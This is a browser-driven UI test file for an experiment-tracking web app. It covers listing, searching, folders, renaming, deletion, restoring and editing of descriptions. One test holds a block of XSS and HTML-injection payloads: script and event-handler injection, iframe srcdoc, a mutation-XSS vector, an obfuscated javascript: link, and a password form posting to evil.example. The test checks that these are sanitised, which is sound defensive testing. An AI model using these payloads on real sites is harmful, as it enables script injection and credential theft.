"""The list of experiments and what is done with an experiment, as a person with a browser does it."""

from __future__ import annotations

import uuid

from tests.ui.browsing import Page, expect
from tests.ui.seed import sweep


def unique(name: str) -> str:
    return f"{name} {uuid.uuid4().hex[:8]}"


def row_of(page: Page, name: str):
    """The row of an experiment, by what its link says."""
    return page.get_by_role("row").filter(has=page.get_by_role("link", name=name, exact=True))


def act(page: Page, name: str, action: str) -> None:
    """Do something from the menu of an experiment or a folder."""
    page.get_by_label(f"Actions for {name}", exact=True).click()
    page.get_by_role("menuitem", name=action).click()


def confirm(page: Page, action: str) -> None:
    dialog = page.get_by_role("dialog")
    dialog.get_by_role("button", name=action, exact=True).click()
    expect(dialog).to_have_count(0)


def named(api, name: str) -> dict:
    return api.get("experiments/get-by-name", experiment_name=name)["experiment"]


def tags(experiment: dict) -> dict[str, str]:
    return {tag["key"]: tag["value"] for tag in experiment.get("tags", [])}


def test_experiments_are_listed_with_what_they_hold(open_page, api):
    name = unique("listed")
    experiment = api.experiment(name)
    for number in range(3):
        api.run(experiment, f"run {number}", status="RUNNING" if number == 0 else "FINISHED")
    api.post("logged-models", experiment_id=experiment, name="m")
    row = row_of(open_page(f"/?name={name}"), name)
    expect(row.locator("[data-cell=runs]")).to_have_text("1running,3")
    expect(row.locator("[data-cell=traces]")).to_have_text("0")
    expect(row.locator("[data-cell=models]")).to_have_text("1")
    expect(row.locator("[data-cell=activity] time")).to_be_visible()


def test_searching_narrows_the_list_and_stays_in_the_address(open_page, api):
    tag = uuid.uuid4().hex[:8]
    for name in (f"alpha {tag}", f"it's beta {tag}"):
        api.experiment(name)
    page = open_page("/")
    page.get_by_label("Find by name").fill(f"{tag} IT'S BETA")
    expect(page.get_by_role("link", name=f"it's beta {tag}")).to_be_visible()
    expect(page.get_by_role("link", name=f"alpha {tag}")).to_have_count(0)
    page.reload()
    expect(page.get_by_role("link", name=f"it's beta {tag}")).to_be_visible()
    expect(page.get_by_role("link", name=f"alpha {tag}")).to_have_count(0)
    page.get_by_label("Find by name").fill("no such experiment")
    expect(page.get_by_text("No experiment has “no such experiment” in its name.")).to_be_visible()


def test_folders_come_from_names_and_a_tag_and_fold_by_keys(open_page, api):
    top = unique("folder")
    api.experiment(f"{top}/inner/deep one")
    moved = api.experiment(unique("moved"))
    api.post("experiments/set-experiment-tag", experiment_id=moved, key="mlflow.experiment.folder", value=top)
    page = open_page("/")
    tree = page.get_by_role("treegrid")
    if page.get_by_role("link", name="deep one").count() == 0:
        page.get_by_role("button", name="Unfold all folders").click()
    folder = tree.get_by_role("row").filter(has=page.get_by_role("button", name=top, exact=True))
    expect(folder).to_have_attribute("aria-expanded", "true")
    expect(folder.locator("[data-cell=name]")).to_contain_text("2")
    expect(page.get_by_role("link", name="deep one", exact=True)).to_be_visible()
    folder.focus()
    page.keyboard.press("ArrowLeft")
    expect(folder).to_have_attribute("aria-expanded", "false")
    expect(page.get_by_role("link", name="deep one", exact=True)).to_have_count(0)
    # how the reader left it is how it is found again
    page.reload()
    expect(folder).to_have_attribute("aria-expanded", "false")
    folder.focus()
    for key in ("ArrowRight", "ArrowRight", "ArrowDown", "Enter"):
        page.keyboard.press(key)
    expect(page.get_by_role("heading", name="Runs of")).to_be_attached()


def test_create_in_a_folder_rename_delete_restore(open_page, api):
    top, second = unique("new folder"), unique("second")
    api.experiment(f"{top}/there")
    page = open_page(f"/?name={top}")
    act(page, f"the folder {top}", "New experiment here")
    page.get_by_label("Name", exact=True).press("End")
    page.keyboard.type("first")
    page.keyboard.press("Enter")
    expect(page.get_by_text("No runs yet.")).to_be_visible()
    assert named(api, f"{top}/first")["lifecycle_stage"] == "active"

    page.get_by_role("link", name="Millrace").click()
    page.get_by_label("Find by name").fill(top)
    act(page, f"{top}/first", "Rename")
    page.keyboard.press("Control+A")
    page.keyboard.type(f"{top}/there")
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("exists already")
    page.keyboard.press("Control+A")
    page.keyboard.type(f"{top}/{second}")
    page.keyboard.press("Enter")
    expect(page.get_by_role("link", name=second)).to_be_visible()

    act(page, f"{top}/{second}", "Delete")
    confirm(page, "Delete")
    expect(page.get_by_role("link", name=second)).to_have_count(0)
    assert named(api, f"{top}/{second}")["lifecycle_stage"] == "deleted"

    page.get_by_role("radio", name="Deleted").click()
    act(page, f"{top}/{second}", "Restore")
    confirm(page, "Restore")
    expect(page.get_by_role("link", name=second)).to_have_count(0)
    assert named(api, f"{top}/{second}")["lifecycle_stage"] == "active"


def test_many_are_selected_compared_moved_and_deleted(open_page, api):
    tag = uuid.uuid4().hex[:8]
    ids = [api.experiment(f"{tag} number {number}") for number in range(3)]
    runs = {api.run(experiment, "a run")["info"]["run_id"] for experiment in ids[:2]}
    page = open_page(f"/?name={tag}&sort=name")
    page.get_by_label(f"Select {tag} number 0").check()
    page.get_by_label(f"Select {tag} number 1").check()
    page.get_by_role("button", name="Compare").click()
    page.wait_for_url("**/compare?**")
    assert all(run in page.url for run in runs)
    page.go_back()
    act(page, f"{tag} number 2", "Move to a folder")
    page.get_by_label("Folder", exact=True).fill(f"{tag} attic")
    confirm(page, "Move")
    expect(page.get_by_role("button", name=f"{tag} attic", exact=True)).to_be_visible()
    assert named(api, f"{tag} number 2")["experiment_id"] == ids[2]
    page.get_by_label("Select all that are shown").check()
    page.get_by_role("toolbar").get_by_role("button", name="Delete").click()
    confirm(page, "Delete")
    expect(page.get_by_text(f"No experiment has “{tag}” in its name.")).to_be_visible()
    assert {named(api, f"{tag} number {number}")["lifecycle_stage"] for number in range(3)} == {"deleted"}


def test_a_name_that_is_taken_is_refused_in_the_dialog(open_page, api):
    name = unique("taken")
    api.experiment(name)
    page = open_page("/")
    page.get_by_role("button", name="New experiment").click()
    page.get_by_label("Name", exact=True).fill(name)
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("RESOURCE_ALREADY_EXISTS")
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)


def test_of_a_long_list_only_what_is_in_sight_is_in_the_page(open_page, api):
    tag = uuid.uuid4().hex[:8]
    for number in range(130):
        api.experiment(f"{tag} number {number:03}")
    page = open_page(f"/?name={tag}&sort=name")
    expect(page.get_by_role("link", name=f"{tag} number 000")).to_be_visible()
    expect(page.get_by_role("link", name=f"{tag} number 129")).to_have_count(0)
    assert page.get_by_role("row").count() < 80
    page.get_by_role("columnheader", name="Name").get_by_role("button").click()
    expect(page.get_by_role("link", name=f"{tag} number 129")).to_be_visible()
    page.get_by_role("row").nth(1).focus()
    page.keyboard.press("End")
    expect(page.get_by_role("link", name=f"{tag} number 000")).to_be_visible()
    assert "sort=name" in page.url and "ascending=false" in page.url


def test_description_and_tags_are_edited_in_their_place(open_page, api):
    name = unique("described")
    experiment = api.experiment(name)
    page = open_page(f"/experiments/{experiment}")
    page.get_by_role("button", name="Description and tags").click()
    panel = page.get_by_role("dialog", name=name)
    panel.get_by_role("button", name="Edit the description").click()
    panel.get_by_role("textbox", name="Description").fill("# What it is\n\nA *test*.")
    page.keyboard.press("Control+Enter")
    expect(panel.get_by_role("heading", name="What it is")).to_be_visible()
    panel.get_by_role("button", name="Add a tag").click()
    panel.get_by_label("Key").fill("team")
    panel.get_by_label("Value").fill("vision")
    page.keyboard.press("Enter")
    expect(panel.get_by_role("listitem").filter(has_text="team")).to_contain_text("vision")
    assert tags(named(api, name)) == {"mlflow.note.content": "# What it is\n\nA *test*.", "team": "vision"}
    panel.get_by_role("button", name="Delete team").click()
    expect(panel.get_by_text("None yet.")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("button", name="What it is A test.")).to_be_visible()
    assert tags(named(api, name)) == {"mlflow.note.content": "# What it is\n\nA *test*."}


HOSTILE = """# A heading

| a | b |
|---|---|
| 1 | 2 |

- [x] done
- [ ] to do

```python
print("<b>&amp;</b>")
```

![a picture of theirs](https://evil.example/pixel.png)
![srcset](data:image/gif;base64,R0lGODlhAQABAAAAACw=)
[a link](https://example.com/there "title")

<script>window.hurt = 1</script>
<img src="x:" onerror="window.hurt = 2">
<svg onload="window.hurt = 3"><script>window.hurt = 4</script></svg>
<iframe srcdoc="<script>parent.hurt = 5</script>"></iframe>
<math><mtext></form><form><mglyph><style></math><img src="x:" onerror="window.hurt = 6">
<a href="java&#10;script:window.hurt = 7" id="evil">a trap</a>
<form action="https://evil.example/"><input type="password" name="p"><button>Send</button></form>
<p style="position:fixed;inset:0" class="fixed inset-0" id="main">over everything</p>
<object data="https://evil.example/x"></object><embed src="https://evil.example/x">
<video src="https://evil.example/x" poster="https://evil.example/y"></video>
<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
"""


def test_a_description_is_hostile_until_it_is_sanitised(open_page, api):
    """Nothing of it runs, nothing leaves the page (open_page sees to that), and what is harmless is rendered."""
    name = unique("hostile")
    experiment = api.experiment(name)
    api.post("experiments/set-experiment-tag", experiment_id=experiment, key="mlflow.note.content", value=HOSTILE)
    page = open_page(f"/experiments/{experiment}")
    page.get_by_role("button", name="Description and tags").last.click()
    note = page.locator(".markdown")
    expect(note.get_by_role("heading", name="A heading")).to_be_visible()
    expect(note.get_by_role("cell", name="2")).to_be_visible()
    expect(note.get_by_role("checkbox", name="done")).to_be_disabled()
    expect(note.locator("pre .hljs-string")).to_have_text('"<b>&amp;</b>"')
    link = note.get_by_role("link", name="a link")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")
    expect(note.get_by_role("link", name="a picture of theirs")).to_have_attribute(
        "href", "https://evil.example/pixel.png"
    )
    found = note.evaluate(
        """note => ({
            tags: [...new Set([...note.querySelectorAll("*")].map(node => node.localName))],
            attributes: [...new Set([...note.querySelectorAll("*")].flatMap(node => node.getAttributeNames()))],
            schemes: [...note.querySelectorAll("[href]")].map(node => new URL(node.href).protocol),
            images: [...note.querySelectorAll("img")].map(node => node.src.slice(0, 10)),
            hurt: window.hurt,
        })"""
    )
    assert not set(found["tags"]) & {
        *(
            "script",
            "svg",
            "math",
            "iframe",
            "style",
            "form",
            "button",
            "object",
            "embed",
            "video",
            "link",
            "meta",
            "base",
        ),
    }
    assert not set(found["attributes"]) & {"style", "id", "name", "onerror", "onload", "srcdoc", "srcset", "action"}
    assert set(found["schemes"]) == {"https:"}
    assert found["images"] == ["data:image"]
    assert note.locator("input:not([type=checkbox])").count() == 0
    assert note.locator(".fixed").count() == 0
    assert "hurt" not in found or found["hurt"] is None


def test_the_head_of_an_experiment_renames_and_deletes_it(open_page, api):
    name, renamed = unique("headed"), unique("renamed")
    ids = sweep(api, name)
    page = open_page(f"/experiments/{ids['experiment']}")
    page.get_by_role("button", name="Actions for the experiment").click()
    page.get_by_role("menuitem", name="Rename").click()
    page.get_by_label("Name", exact=True).fill(renamed)
    confirm(page, "Rename")
    assert named(api, renamed)["experiment_id"] == ids["experiment"]
    page.get_by_role("button", name=f"Star {renamed}").click()
    expect(page.get_by_role("region", name="Starred").get_by_role("link", name=renamed)).to_be_visible()
    page.get_by_role("button", name="Actions for the experiment").click()
    page.get_by_role("menuitem", name="Delete").click()
    confirm(page, "Delete")
    expect(page.get_by_role("heading", name="Experiments")).to_be_visible()
    # what is gone is no longer offered
    expect(page.get_by_role("link", name=renamed)).to_have_count(0)
    page.goto(page.url.split("?")[0].rstrip("/") + f"/experiments/{ids['experiment']}?view=deleted")
    page.get_by_role("button", name="Restore").click()
    confirm(page, "Restore")
    expect(page.get_by_role("button", name=f"Star {renamed}")).to_be_visible()


def test_an_unknown_experiment_is_named_as_such(open_page):
    expect(open_page("/experiments/987654321").get_by_role("alert").first).to_contain_text("RESOURCE_DOES_NOT_EXIST")
